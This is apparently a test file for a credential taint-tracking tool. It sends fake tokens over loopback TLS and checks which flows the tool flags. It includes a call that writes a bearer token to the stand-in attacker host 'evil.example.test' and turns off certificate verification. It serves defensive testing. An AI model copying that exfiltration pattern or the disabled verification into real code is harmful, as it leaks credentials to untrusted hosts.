// Credentials written to TLS sessions with a server on loopback (certificate
// generated here). TLS is never cleartext; the scope is judged against the
// SNI name (or SSL_set1_host's), although every connection goes to
// 127.0.0.1. A token scoped to api.github.com is fine there and
// unscoped-network-use (high) at evil.example.test; a token with no scope is
// unscoped-network-use (low); a token in a request line is credential-in-url.
// SECRET: e2e-fake-tls-deploy-token-5c1d9e
// SECRET: e2e-fake-session-token-7f3a9c
// RUN: openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:prime256v1 -nodes -keyout %t.key -out %t.crt -days 1 -subj /CN=localhost 2> %t.openssl.err
// RUN: %credtaint-cxx -O0 %s -o %t -lssl
// RUN: rm -rf %t.logs
// RUN: env CREDTAINT_OPTIONS=%ctopts E2E_DEPLOY=e2e-fake-tls-deploy-token-5c1d9e SESSION_TOKEN=e2e-fake-session-token-7f3a9c python3 %S/Inputs/netserve.py --cert %t.crt --key %t.key tls -- %t {tls} > %t.out 2> %t.err
// RUN: FileCheck --implicit-check-not="==CREDTAINT:" %s < %t.err
// RUN: FileCheck --check-prefix=OUT %s < %t.out
// RUN: cat %records | count 3
// RUN: cat %records | FileCheck --check-prefix=JSON %s
#include <credtaint/credtaint.h>

#include <arpa/inet.h>
#include <cstdio>
#include <cstdlib>
#include <openssl/ssl.h>
#include <string>
#include <sys/socket.h>
#include <unistd.h>

static int port;

/// One TLS connection to the loopback server, named sni (SNI) and/or
/// host (SSL_set1_host), that writes data.
static void sendOver(SSL_CTX *ctx, const char *sni, const char *host,
                     const std::string &data) {
  int fd = socket(AF_INET, SOCK_STREAM, 0);
  sockaddr_in to{};
  to.sin_family = AF_INET;
  to.sin_port = htons(uint16_t(port));
  inet_pton(AF_INET, "127.0.0.1", &to.sin_addr);
  if (connect(fd, reinterpret_cast<sockaddr *>(&to), sizeof to) != 0)
    std::exit(3);
  SSL *ssl = SSL_new(ctx);
  if (sni)
    SSL_set_tlsext_host_name(ssl, sni);
  if (host)
    SSL_set1_host(ssl, host);
  SSL_set_fd(ssl, fd);
  if (SSL_connect(ssl) != 1)
    std::exit(4);
  SSL_write(ssl, data.data(), int(data.size()));
  char reply[8] = {0};
  int n = SSL_read(ssl, reply, sizeof reply - 1);
  std::printf("%s: %s", sni ? sni : host ? host : "(no name)", n > 0 ? reply : "no reply\n");
  SSL_shutdown(ssl);
  SSL_free(ssl);
  close(fd);
}

int main(int argc, char **argv) {
  if (argc < 2)
    return 1;
  port = std::atoi(argv[1]);
  CREDTAINT_SECRET("token", "api.github.com") std::string deploy_token =
      std::getenv("E2E_DEPLOY");
  const char *session = std::getenv("SESSION_TOKEN");
  SSL_CTX *ctx = SSL_CTX_new(TLS_client_method());
  // The test server's certificate is self-signed and for localhost.
  SSL_CTX_set_verify(ctx, SSL_VERIFY_NONE, nullptr);
  std::string header = "Authorization: Bearer " + deploy_token + "\r\n";

  // In scope: by SNI, by SSL_set1_host, and loopback by address alone.
  sendOver(ctx, "api.github.com", nullptr, header);
  sendOver(ctx, nullptr, "api.github.com", header);
  sendOver(ctx, nullptr, nullptr, header);

  // Out of scope.
  sendOver(ctx, "evil.example.test", nullptr, header);
// CHECK: CREDTAINT: unscoped-network-use: token deploy_token ({{.*}}) reached SSL_write to evil.example.test:{{[0-9]+}} over tls at {{.*}}net-tls-scope.cpp:{{[0-9]+}}
// CHECK: sink SSL_write in sendOver
// CHECK: rule unscoped-network-use (CWE-668, high)

  // No scope at all.
  sendOver(ctx, "api.github.com", nullptr, std::string("Cookie: session=") + session);
// CHECK: CREDTAINT: unscoped-network-use: token SESSION_TOKEN ({{.*}}) reached SSL_write to api.github.com:{{[0-9]+}} over tls at {{.*}}net-tls-scope.cpp:{{[0-9]+}}
// CHECK: rule unscoped-network-use (CWE-668, low)

  // In scope, but in the URL.
  sendOver(ctx, "api.github.com", nullptr,
           "GET /repos?token=" + deploy_token + " HTTP/1.1\r\nHost: api.github.com\r\n\r\n");
// CHECK: CREDTAINT: credential-in-url: token deploy_token ({{.*}}) reached SSL_write to api.github.com:{{[0-9]+}} over tls at {{.*}}net-tls-scope.cpp:{{[0-9]+}}
// CHECK-NEXT: url https://api.github.com:{{[0-9]+}}/repos?token=****{{[^ ]*$}}

  SSL_CTX_free(ctx);
  return 0;
}
// OUT: api.github.com: ok
// OUT-NEXT: api.github.com: ok
// OUT-NEXT: (no name): ok
// OUT-NEXT: evil.example.test: ok
// OUT-NEXT: api.github.com: ok
// OUT-NEXT: api.github.com: ok
// JSON: "rule":"unscoped-network-use"
// JSON-SAME: "severity":"high"
// JSON-SAME: "scope":"api.github.com"
// JSON-SAME: "sink":{"category":"network","function":"SSL_write",{{.*}}"transport":"tls","host":"evil.example.test","port":{{[0-9]+}}}
// JSON: "rule":"unscoped-network-use"
// JSON-SAME: "severity":"low"
// JSON-SAME: "scope":""
// JSON: "rule":"credential-in-url"
// JSON-SAME: "url":"https://api.github.com:{{[0-9]+}}/repos?token=****
